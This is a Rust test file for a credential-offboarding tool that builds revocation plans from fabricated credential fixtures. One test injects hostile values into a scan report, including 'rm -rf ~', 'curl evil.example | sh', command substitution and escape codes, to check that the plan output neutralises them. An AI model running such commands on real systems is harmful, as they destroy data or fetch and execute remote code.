//! Offboarding: a plan in the order that works, nothing in it that a report could smuggle in, and what is still there afterwards.

use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};

use crate::machine::{GOOD, Machine};

const KEY: &str = "a key for the tests of offboarding";

/// A home of twelve tools as they write it; the place of each is its rule's.
fn twelve_tools(machine: &Machine) {
    let secret = |prefix: &str| format!("{prefix}Zk8vQ2mXw5nB7cT1yR4pL9sDqJ3mH6gF0aE2");
    for (path, text) in [
        ("~/.aws/credentials", "[default]\naws_access_key_id = AKIAQ5ZK3M7WVX2B4N6P\naws_secret_access_key = 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\n".to_owned()),
        ("~/.config/gh/hosts.yml", format!("github.com:\n    user: octo\n    oauth_token: {}\n    git_protocol: https\n", secret("gho_"))),
        ("~/.kube/config", format!("apiVersion: v1\nkind: Config\nclusters: [{{name: c, cluster: {{server: \"https://k.corp.example\"}}}}]\nusers: [{{name: dana, user: {{token: {}}}}}]\ncontexts: [{{name: x, context: {{cluster: c, user: dana}}}}]\ncurrent-context: x\n", secret("t"))),
        ("~/.docker/config.json", "{\"auths\":{\"registry.corp.example\":{\"auth\":\"ZGFuYTpNazh2UTJtWHc1bkI3Y1QxeVI0cEw5c00=\"}}}".to_owned()),
        ("~/.npmrc", format!("//registry.corp.example/:_authToken={}\n", secret("npm_"))),
        ("~/.vault-token", GOOD.to_owned()),
        ("~/.netrc", "machine api.corp.example login dana password Zk8vQ2mXw5nB7cT1yR4pL9sD\n".to_owned()),
        ("~/.git-credentials", "https://dana:Gk8vQ2mXw5nB7cT1yR4pL9sG@git.corp.example\n".to_owned()),
        ("~/.pgpass", "db.corp.example:5432:shop:dana:Pk8vQ2mXw5nB7cT1yR4pL9sP\n".to_owned()),
        ("~/.cache/huggingface/token", secret("hf_").chars().take(37).collect()),
        ("~/.terraform.d/credentials.tfrc.json", format!("{{\"credentials\":{{\"app.terraform.io\":{{\"token\":\"Zk8vQ2mXw5nB7c.atlasv1.{}\"}}}}}}", "Zk8vQ2mXw5nB7cT1yR4pL9sDqJ3mH6gF0aE2Zk8vQ2mXw5nB7cT1yR4pL9sDqJ3mH6g")),
        ("~/.config/netlify/config.json", format!("{{\"userId\":\"u\",\"users\":{{\"u\":{{\"id\":\"u\",\"email\":\"dana@corp.example\",\"auth\":{{\"token\":\"{}\"}}}}}}}}", secret("nfp_"))),
        ("~/.bash_history", "export VAULT_TOKEN=".to_owned() + GOOD + "\n"),
    ] {
        machine.write(path, text);
    }
    machine.write("~/old/.vault-token", GOOD);
}

fn scanned(machine: &Machine, name: &str) -> Value {
    let key = machine.write("key", KEY);
    let report = machine.scan(&["--fingerprint-key-file", &key.to_string_lossy()]);
    machine.write(name, report.to_string());
    report
}

fn plan(machine: &Machine, args: &[&str]) -> String {
    let output = machine.program().args(["offboard", "before.json"]).args(args).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn twelve_tools_are_ended_in_the_order_that_works() {
    let machine = Machine::new();
    twelve_tools(&machine);
    scanned(&machine, "before.json");
    let text = plan(&machine, &["--format", "json"]);
    let plan: Value = serde_json::from_str(&text).unwrap();
    let phases: Vec<&str> =
        plan["phases"].as_array().unwrap().iter().map(|it| it["phase"].as_str().unwrap()).collect();
    assert_eq!(phases, ["revoke", "rotate", "check", "logout", "remains", "rescan"]);
    let tools: std::collections::BTreeSet<&str> =
        plan["grants"].as_array().unwrap().iter().map(|it| it["tool"].as_str().unwrap()).collect();
    assert!(tools.len() >= 12, "{tools:?}");
    // Phase, tool, and what one of its steps must say.
    for (phase, tool, says) in [
        ("revoke", "npm", "npm logout --registry=https://registry.corp.example/"),
        ("revoke", "AWS CLI", "aws iam delete-access-key --access-key-id AKIAQ5ZK3M7WVX2B4N6P"),
        ("revoke", "GitHub CLI", "https://github.com/settings/applications"),
        ("revoke", "HashiCorp Vault", "vault token revoke -self"),
        ("rotate", "netrc", "change the password of dana at api.corp.example"),
        ("rotate", "PostgreSQL", "dana"),
        ("check", "HashiCorp Vault", "vault token lookup"),
        ("logout", "GitHub CLI", "gh auth logout --hostname github.com --user octo"),
        ("logout", "kubectl", "kubectl config delete-user dana"),
        ("logout", "Docker", "docker logout registry.corp.example"),
        ("remains", "", "End the shells that are open"),
        ("remains", "HashiCorp Vault", "rm -- "),
        ("remains", "Netlify CLI", "leaves it in config.json"),
        ("remains", "kubectl", "cluster and context"),
    ] {
        let phase = plan["phases"].as_array().unwrap().iter().find(|it| it["phase"] == phase);
        let steps = phase.unwrap()["steps"].as_array().unwrap();
        let said = steps.iter().any(|step| {
            (tool.is_empty() || step["tool"] == tool)
                && step["text"].as_str().unwrap().contains(says)
        });
        assert!(said, "{tool}: {says}\n{steps:#?}");
    }
    // A logout that revokes is not told a second time.
    let logout = plan["phases"].as_array().unwrap().iter().find(|it| it["phase"] == "logout");
    let again = logout.unwrap()["steps"].as_array().unwrap().iter().any(|it| it["tool"] == "npm");
    assert!(!again);
}

#[test]
fn plans_are_as_published() {
    let machine = Machine::new();
    twelve_tools(&machine);
    scanned(&machine, "before.json");
    let schema = |name: &str| -> Value {
        let output = machine.program().args(["schema", name]).output().unwrap();
        serde_json::from_slice(&output.stdout).unwrap()
    };
    let of = |text: &[u8]| -> Value { serde_json::from_slice(text).unwrap() };
    let told = of(plan(&machine, &["--format", "json"]).as_bytes());
    assert!(jsonschema::is_valid(&schema("offboard"), &told));
    let mut verify = machine.program();
    let output = verify
        .args(["offboard", "--verify", "before.json", "before.json", "--format", "json"])
        .output()
        .unwrap();
    assert!(jsonschema::is_valid(&schema("offboard-verify"), &of(&output.stdout)));
}

#[test]
fn grants_are_chosen_by_person_host_or_finding() {
    let machine = Machine::new();
    twelve_tools(&machine);
    let report = scanned(&machine, "before.json");
    let vault = report["findings"].as_array().unwrap().iter().find(|it| it["rule"] == "vault");
    let id = vault.unwrap()["id"].as_str().unwrap()[5..17].to_owned();
    let tools = |args: &[&str]| -> Vec<String> {
        let told: Value =
            serde_json::from_str(&plan(&machine, &[args, &["--format", "json"]].concat())).unwrap();
        let grants = told["grants"].as_array().unwrap().iter();
        let mut tools: Vec<String> =
            grants.map(|it| it["tool"].as_str().unwrap().to_owned()).collect();
        tools.sort();
        tools
    };
    assert_eq!(tools(&["--person", "octo"]), ["GitHub CLI"]);
    assert_eq!(tools(&["--host", "git.corp.example"]), ["git credential-store"]);
    assert_eq!(tools(&["--grant", &id]), ["HashiCorp Vault"]);
    assert_eq!(tools(&["--person", "dana", "--host", "db.corp.example"]), ["PostgreSQL"]);
    assert!(tools(&["--person", "user"]).len() >= 12, "everything in the home of a user");
    for args in [["--person", "nobody"], ["--host", "nowhere.example"], ["--grant", "ffffffffffff"]]
    {
        let output =
            machine.program().args(["offboard", "before.json"]).args(args).output().unwrap();
        assert_eq!(output.status.code(), Some(2), "a slip of the pen is no clean machine");
    }
}

#[test]
fn a_hostile_report_smuggles_nothing_in() {
    let machine = Machine::new();
    twelve_tools(&machine);
    let mut report = scanned(&machine, "before.json");
    let evil = "x\n$(touch pwned) `touch pwned`; touch pwned #<img src=x>](https://evil.example)\u{202e}\r\u{1b}[2J";
    for finding in report["findings"].as_array_mut().unwrap() {
        for (place, name) in [
            ("identity", "account"),
            ("identity", "host"),
            ("identity", "name"),
            ("location", "path"),
            ("location", "key"),
            ("custody", "held_by"),
        ] {
            finding[place][name] = json!(evil);
        }
        finding["end"] = json!({"logout": "rm -rf ~", "revoke": "curl evil.example | sh", "verify": evil, "better": evil});
        finding["tool"] = json!(evil);
        finding["provider"] = json!(evil);
        finding["custody"]["storage"] = json!("keychain");
    }
    report["host"]["name"] = json!(evil);
    report["scan"]["id"] = json!(evil);
    machine.write("before.json", report.to_string());
    let script = plan(&machine, &["--format", "script"]);
    assert!(script.lines().all(|line| line.starts_with('#')), "{script}");
    let file = machine.write("end.sh", &script);
    let output = Command::new("sh").arg(file).current_dir(&machine.root).output().unwrap();
    assert!(output.status.success() && output.stdout.is_empty() && output.stderr.is_empty());
    // Even with every command uncommented, no value of the report does anything.
    for command in script.lines().filter_map(|line| line.strip_prefix("#> ")) {
        assert!(!command.contains("pwned") && !command.contains("rm -rf"), "{command}");
        assert!(!command.contains("evil"), "{command}");
    }
    let markdown = plan(&machine, &[]);
    assert!(
        !markdown.contains("rm -rf")
            && !markdown.contains('\u{1b}')
            && !markdown.contains('\u{202e}')
    );
    for line in markdown.lines() {
        // Outside code there is no element and no link.
        let outside: String = line.split('`').step_by(2).collect();
        assert!(!outside.contains("<img") && !outside.contains("](https"), "{line}");
    }
    assert!(!Path::new("pwned").exists() && !machine.root.join("pwned").exists());
}

#[test]
fn what_is_still_there_is_told() {
    let machine = Machine::new();
    twelve_tools(&machine);
    scanned(&machine, "before.json");
    let remove = |path: &str| std::fs::remove_file(machine.home().join(path)).unwrap();
    remove(".netrc");
    remove(".npmrc");
    machine.write("~/.pgpass", "db.corp.example:5432:shop:dana:Another1nB7cT1yR4pL9sDqJ3\n");
    std::fs::rename(
        machine.home().join(".git-credentials"),
        machine.home().join(".config/git-old"),
    )
    .unwrap();
    std::fs::create_dir_all(machine.root.join("mnt/home/other")).unwrap();
    std::fs::rename(machine.home().join(".docker"), machine.root.join("mnt/home/other/.docker"))
        .unwrap();
    machine.write("~/.config/gh/hosts.yml", "github.com: [");
    let key = machine.root.join("key").to_string_lossy().into_owned();
    let report = machine.scan(&["--fingerprint-key-file", &key, "--fingerprint-passwords"]);
    machine.write("after.json", report.to_string());
    let verify = |args: &[&str]| {
        let mut command = machine.program();
        command.args(["offboard", "--verify", "before.json", "after.json", "--format", "json"]);
        command.args(args).output().unwrap()
    };
    // Of what the password of a file was before, the first scan has no fingerprint, so it cannot be said to be another.
    let output = verify(&[]);
    assert_eq!(output.status.code(), Some(1));
    let told: Value = serde_json::from_slice(&output.stdout).unwrap();
    let outcome = |end: &str| {
        let grants = told["grants"].as_array().unwrap().iter();
        let mut places = grants.flat_map(|grant| grant["places"].as_array().unwrap());
        let place = places.find(|place| place["path"].as_str().unwrap().ends_with(end)).unwrap();
        place["outcome"].as_str().unwrap().to_owned()
    };
    for (place, expected) in [
        ("user/.netrc", "gone"),
        ("user/.npmrc", "gone"),
        ("user/.aws/credentials", "still-there"),
        ("user/.vault-token", "still-there"),
        ("user/.pgpass", "still-there"),
        ("user/.config/gh/hosts.yml", "not-looked-at"),
    ] {
        assert_eq!(outcome(place), expected, "{place}");
    }
    assert_eq!(verify(&["--host", "api.corp.example"]).status.code(), Some(0));
    let older = machine
        .program()
        .args(["offboard", "--verify", "after.json", "before.json"])
        .output()
        .unwrap();
    assert_eq!(older.status.code(), Some(2), "the second report is the older one");
}

#[test]
fn a_replaced_and_a_moved_secret_are_recognised() {
    let machine = Machine::new();
    machine.write("~/.vault-token", GOOD);
    machine.write(
        "~/.npmrc",
        "//registry.corp.example/:_authToken=npm_Zk8vQ2mXw5nB7cT1yR4pL9sDqJ3mH6gF0aE2\n",
    );
    scanned(&machine, "before.json");
    machine.write(
        "~/.npmrc",
        "//registry.corp.example/:_authToken=npm_Ab8vQ2mXw5nB7cT1yR4pL9sDqJ3mH6gF0aE2\n",
    );
    std::fs::create_dir_all(machine.root.join("mnt/home/other")).unwrap();
    std::fs::rename(
        machine.home().join(".vault-token"),
        machine.root.join("mnt/home/other/.vault-token"),
    )
    .unwrap();
    scanned(&machine, "after.json");
    let output = machine
        .program()
        .args(["offboard", "--verify", "before.json", "after.json"])
        .output()
        .unwrap();
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(text.contains("1 with another secret, 1 moved"), "{text}");
}

#[test]
fn a_password_that_serves_twice_is_changed_twice() {
    let machine = Machine::new();
    machine.write(
        "~/.netrc",
        "machine api.corp.example login dana password Zk8vQ2mXw5nB7cT1yR4pL9sD\n",
    );
    machine.write("~/.pgpass", "db.corp.example:5432:shop:dana:Zk8vQ2mXw5nB7cT1yR4pL9sD\n");
    scanned(&machine, "before.json");
    let told = plan(&machine, &[]);
    assert!(told.starts_with("# Offboarding") && told.contains("1 grant to end"), "{told}");
    for says in [
        "`dana` at `api.corp.example`",
        "db.corp.example",
        "delete the entry of `api.corp.example`",
        "delete the line",
    ] {
        assert!(told.contains(says), "{says}\n{told}");
    }
}

/// The commands of the documentation, run as they stand there.
#[cfg(unix)]
#[test]
fn the_documented_commands_run() {
    let docs =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/offboarding.md"))
            .unwrap();
    let mut script = String::from("set -u\n");
    for block in docs.split("```sh\n").skip(1) {
        script.push_str(block.split("```").next().unwrap());
    }
    let machine = Machine::new();
    twelve_tools(&machine);
    let program = Path::new(crate::machine::PROGRAM).parent().unwrap();
    let output = Command::new("sh")
        .args(["-c", &script])
        .env_clear()
        .env("HOME", machine.home())
        .env("PATH", format!("{}:/usr/bin:/bin", program.display()))
        .current_dir(&machine.root)
        .output()
        .unwrap();
    let (out, err) =
        (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(err.is_empty(), "{err}");
    assert!(out.contains("# After the offboarding"), "{out}");
    assert!(machine.root.join("plan.md").exists() && machine.root.join("plan.sh").exists());
}
